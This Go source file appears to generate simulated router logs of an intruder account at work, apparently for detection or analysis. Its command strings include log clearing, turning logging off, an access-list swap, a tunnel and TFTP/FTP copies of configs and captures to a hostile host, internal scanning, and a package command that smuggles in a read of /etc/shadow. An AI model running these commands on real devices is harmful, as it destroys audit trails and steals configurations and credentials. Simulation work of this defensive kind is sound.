package simulate

import (
	"fmt"
	"strings"
	"time"
)

// commandCase is a case that stands in the commands of a session by the account that the intruder took.
type commandCase struct {
	id, what          string
	day, hour, minute int
	device            string
	apart             time.Duration
	commands          []string // those with a ~ in front belong to the session and say nothing by themselves
	also              []string
	changes           bool
}

// filesTo takes what is copied from routers by TFTP and FTP.
var filesTo = hostile(0)

var commandCases = []commandCase{
	{
		id: "AAA-01", what: "logs are cleared", day: 15, hour: 10, minute: 10, device: "edge-r4", apart: 15 * time.Second,
		commands: []string{"~show users", "clear logging", "clear archive log config"},
	},
	{
		id: "AAA-02", what: "logging and the archive of changes are turned off", day: 15, hour: 11, minute: 20, device: "agg-r2", apart: 10 * time.Second, changes: true,
		commands: []string{"~configure terminal", "no archive", "no logging trap", "~end"},
	},
	{
		id: "AAA-03", what: "the device is looked over in two minutes", day: 16, hour: 9, minute: 40, device: "core-r3", apart: 14 * time.Second,
		commands: []string{"terminal length 0", "terminal width 0", "show running-config", "show tacacs", "show cdp neighbors", "show file systems", "dir bootflash:", "show clock", "show platform software status control-processor brief"},
	},
	{
		id: "AAA-05", what: "the access list of the lines is swapped for another", day: 17, hour: 11, minute: 50, device: "agg-r4", apart: 7 * time.Second, changes: true,
		commands: []string{"~configure terminal", "ip http secure-server", "line vty 0 15", "no access-class MGMT-IN in", "access-class 20 in", "~end"},
	},
	{
		id: "AAA-06", what: "a tunnel is built", day: 18, hour: 10, minute: 25, device: "agg-r5", apart: 20 * time.Second, changes: true,
		commands: []string{"~configure terminal", "interface Tunnel100", "ip address 10.10.12.1 255.255.255.252", "tunnel source Loopback0", "tunnel destination " + hostile(1).String(), "~end"},
	},
	{
		id: "AAA-07", what: "a Guest Shell is made, used and destroyed", day: 18, hour: 12, minute: 5, device: "core-r3", apart: 7 * time.Minute,
		commands: []string{"guestshell enable", "guestshell run bash", "guestshell destroy"}, also: []string{"SYS-08"},
	},
	{
		id: "AAA-08", what: "the configuration and a capture are copied outside", day: 21, hour: 10, minute: 5, device: "agg-r6", apart: 3 * time.Minute,
		commands: []string{"~dir flash:", "copy running-config tftp://" + filesTo.String() + "/agg-r6.cfg", "copy bootflash:tac.pcap ftp://" + filesTo.String() + "/tac.pcap"},
		also:     []string{"FLW-06", "FLW-07"},
	},
	{
		id: "AAA-13", what: "a command for packages carries characters of a shell", day: 22, hour: 8, minute: 50, device: "edge-r1", apart: 20 * time.Second,
		commands: []string{"~show version", "request platform software package describe file bootflash:pkg.bin;cat /etc/shadow>/bootflash/.a"},
	},
}

// newCaseCommands are the cases of AAA that commands show.
func newCaseCommands(c *cast) part {
	p := newPlan(c)
	for i := range commandCases {
		p.commandCase(&commandCases[i])
	}
	p.probing()
	p.carriedOut()
	p.madeShell()
	return p
}

func (p *plan) commandCase(x *commandCase) {
	d := p.site.device(x.device)
	also := x.also
	if x.changes {
		also = d.changing(also...)
	}
	var observed []string
	for _, text := range x.commands {
		if !strings.HasPrefix(text, "~") {
			observed = append(observed, d.name+" + "+text)
		}
	}
	of := p.deed(Case{ID: x.id, What: x.what + " on " + d.name, Subject: d.name, Names: append(d.names(), insider), Also: also, Observed: observed})
	p.at(p.on(x.day, x.hour, x.minute), func(s *slot, at time.Time) {
		w := &shell{at: at, device: d, user: insider, from: p.site.host("jump-2").v4}
		w.typed = p.types(12*time.Second, x.apart, nil, x.commands...)
		config := false
		for i := range w.typed {
			t := &w.typed[i]
			text, quiet := strings.CutPrefix(t.text, "~")
			if t.text = text; !quiet {
				t.marks = []*Occurrence{of}
			}
			config = (config || i > 0 && beginsConfig[w.typed[i-1].text]) && !endsConfig[text]
			t.config = config
		}
		p.work(s, w)
	})
}

// probing is AAA-04: from a router many others are tried.
func (p *plan) probing() {
	d := p.site.device("agg-r3")
	of := p.deed(Case{
		ID: "AAA-04", What: "agg-r3 tries many others by ping, SSH and telnet", Subject: d.name, Names: append(d.names(), insider),
		Also: []string{"FLW-06", "FLW-10"}, Observed: []string{"agg-r3 + ping 10.10.1.", "agg-r3 + ssh -l " + insider, "agg-r3 + telnet 10.10.1."},
	})
	p.at(p.on(17, 10, 30), func(s *slot, at time.Time) {
		w := &shell{at: at, device: d, user: insider, from: p.site.host("jump-2").v4}
		var commands []string
		for n := 1; n <= 15; n++ {
			to := fmt.Sprintf("10.10.1.%d", n)
			commands = append(commands, []string{"ping " + to, "ssh -l " + insider + " " + to, "telnet " + to + " 22"}[n%3])
		}
		w.typed = p.types(15*time.Second, 22*time.Second, []*Occurrence{of}, commands...)
		p.work(s, w)
		for n := 1; n <= 15; n++ {
			begin, to := at.Add(w.typed[n-1].after+2*time.Second), p.site.device(fmt.Sprintf("acc-r%02d", n)).inner
			if n%3 == 0 {
				s.talk(p.echo(begin, d.inner, to, 5, 100, 2*time.Second))
				continue
			}
			s.talk(p.call(begin, d.inner, to, 22, protoTCP).retry(2, 3*time.Second))
		}
	})
}

// carriedOut are the flows of AAA-08.
func (p *plan) carriedOut() {
	from := p.site.device("agg-r6").v4
	p.at(p.on(21, 10, 9), func(s *slot, at time.Time) {
		s.talk(p.call(at, from, filesTo, 69, protoUDP).answer("", 48_000, 1200, 9*time.Second))
		s.talk(p.call(at.Add(4*time.Minute), from, filesTo, 21, protoTCP).answer("ftp", 900, 1400, time.Minute))
	})
}

// madeShell is what the Guest Shell of AAA-07 logs.
func (p *plan) madeShell() {
	d := p.site.device("core-r3")
	p.at(p.on(18, 12, 7), func(s *slot, at time.Time) { s.say(at, d, d.shellUp(at)) })
}
